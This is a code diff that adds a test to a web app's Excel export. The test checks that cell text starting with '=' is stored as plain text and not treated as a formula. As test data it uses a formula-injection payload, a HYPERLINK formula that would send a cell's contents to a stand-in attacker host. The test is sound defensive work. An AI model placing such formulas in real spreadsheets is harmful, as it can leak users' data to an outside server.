@@ -187,3 +187,21 @@ def test_provider_upload_cannot_reach_another_organisations_actions(demo, client
     coordinator = client_for(demo.coordinator)
     assert coordinator.get(f"/p/N01A/actions/upload/{upload.pk}/").status_code == 404
     assert client_for(demo.eastvale).get(f"/p/N01A/actions/upload/{upload.pk}/").status_code == 404
+
+
+def test_text_starting_with_equals_is_written_as_text_not_a_formula():
+    """Action text and notes come from other people: opened in Excel, a cell starting with
+    ‘=’ must not run as a formula; read back, it is the same text."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    content = delivery_xlsx.write_sheet(
+        [{"Action id": 7, "Action": evil, "Progress note": "=1+1", "New status": "On track"}],
+        partnership_code="N01A",
+        title="t",
+    )
+    ws = load_workbook(io.BytesIO(content))["Progress"]
+    action = ws.cell(row=HEADER_ROW + 1, column=COL["Action"] + 1)
+    note = ws.cell(row=HEADER_ROW + 1, column=COL["Progress note"] + 1)
+    assert action.data_type == "s" and action.value == evil
+    assert note.data_type == "s"
+    rows = delivery_xlsx.read_sheet(content, partnership_code="N01A")
+    assert rows[0]["note"] == "=1+1" and rows[0]["action_id"] == 7
